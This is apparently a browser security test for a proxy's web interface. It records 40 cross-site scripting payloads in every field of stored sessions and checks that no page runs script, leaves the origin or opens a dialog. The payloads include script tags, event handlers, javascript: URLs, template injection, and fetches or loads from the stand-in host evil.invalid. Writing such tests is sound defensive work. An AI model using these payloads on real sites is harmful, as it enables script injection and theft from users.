"""What clients and upstreams control is shown as text: nothing of it runs, and no request leaves the origin.

Each of the payloads stands in every field: the session's name and title, the model, the client's name, headers, tools
and their arguments, contents of all roles, the answer, its headers, and errors.
"""

import json

import pytest
from playwright.sync_api import Browser, Dialog, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from proxy.lab.upstream import serve_application
from tests.browser.asking import read, send
from tests.browser.chromium import Watched, watch
from tests.journeys.running import TOKEN, Running, run_proxy

RUN = "window.ran=1;fetch('http://evil.invalid/')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>{RUN}",
    f'<script type="module">{RUN}</script>',
    f'<img src=x onerror="{RUN}">',
    f'"><img src=x onerror="{RUN}">',
    "<img src=http://evil.invalid/x.png>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f'<iframe srcdoc="<script>parent.ran=1</script>"></iframe>{RUN}',
    "<iframe src=http://evil.invalid/></iframe>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<a href="javascript:{RUN}">click</a>',
    f"javascript:{RUN}",
    f"[link](javascript:{RUN})",
    f"![image](http://evil.invalid/x.png){RUN}",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<form action=http://evil.invalid/><button autofocus>x</button></form>",
    f"<object data='javascript:{RUN}'></object>",
    "<embed src=http://evil.invalid/>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\u202e\u2028\u2029\x1b[31m<script>{RUN}</script>\x00\u200b",
)


def write_header(payload: str) -> str:
    """A payload as it may stand in a header."""
    return payload.encode("ascii", "ignore").decode().translate(dict.fromkeys((*range(32), 127)))


async def answer(request: Request) -> Response:
    """Repeat the model in all that a provider says; every fourth time as an error."""
    asked = json.loads(await request.body())
    payload, place = asked["model"], int(asked["user"])
    headers = {"x-request-id": write_header(payload), "x-note": write_header(payload)}
    if place % 4 == 3:
        return JSONResponse({"error": {"message": payload, "type": payload, "code": payload}}, 400, headers=headers)
    call = {"id": payload, "type": "function", "function": {"name": payload, "arguments": json.dumps({"x": payload})}}
    message = {"role": "assistant", "content": payload, "tool_calls": [call]}
    choice = {"index": 0, "message": message, "finish_reason": payload if place % 2 else "stop"}
    usage = {"prompt_tokens": 10, "completion_tokens": 2, "total_tokens": 12}
    body = {"id": payload, "object": "chat.completion", "created": 1, "model": payload, "choices": [choice]}
    return JSONResponse({**body, "usage": usage}, headers=headers)


def make_body(payload: str, place: int) -> bytes:
    call = {"id": "c1", "type": "function", "function": {"name": payload, "arguments": json.dumps({payload: payload})}}
    tool = {"type": "function", "function": {"name": payload, "description": payload, "parameters": {"type": "object"}}}
    messages = [
        {"role": "system", "content": payload},
        {"role": "user", "name": payload, "content": payload},
        {"role": "assistant", "content": payload, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": payload},
        {"role": "user", "content": [{"type": "text", "text": payload}]},
    ]
    return json.dumps({"model": payload, "user": str(place), "messages": messages, "tools": [tool]}).encode()


def fill(proxy: Running) -> None:
    for place, payload in enumerate(PAYLOADS):
        text = write_header(payload)
        names = {"x-palimpsest-session": f"{place} {text}"[:100], "user-agent": text, "x-note": text}
        send(proxy, make_body(payload, place), names)


def note_dialog(dialog: Dialog, dialogs: list[str]) -> None:
    dialogs.append(dialog.message)
    dialog.dismiss()


def look(watched: Watched, path: str) -> None:
    """Open a page and what it hides."""
    watched.open(path)
    page = watched.page
    for button in page.locator("#unchanged, .fold button, [data-orig], #talk summary").all():
        button.click()
    if (raw := page.get_by_role("button", name="Raw", exact=True)).count():
        raw.click()
        expect(page.locator(".raw pre").first).to_be_visible(timeout=60_000)


@pytest.mark.no_cover
def test_nothing_that_was_recorded_runs(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> None:
    provider = Starlette(routes=[Route("/v1/chat/completions", answer, methods=["POST"])])
    with (
        serve_application(provider) as port,
        run_proxy(tmp_path_factory.mktemp("hostile"), f"http://127.0.0.1:{port}/v1") as proxy,
    ):
        fill(proxy)
        sessions = read(proxy, "/sessions?limit=200")["items"]
        assert len(PAYLOADS) == len(sessions) == 40
        watched = watch(browser, proxy.origin, TOKEN)
        dialogs: list[str] = []
        watched.page.on("dialog", lambda dialog: note_dialog(dialog, dialogs))
        paths = ["/-/", "/-/health", "/-/search?q=script"]
        for session in sessions:
            paths += [f"/-/sessions/{session['id']}{rest}" for rest in ("", "/calls/1", "/conversation")]
        for path in paths:
            look(watched, path)
            assert watched.page.evaluate("window.ran === undefined"), path
            assert watched.page.url.startswith(proxy.origin), path
            assert not dialogs, path
            watched.check()
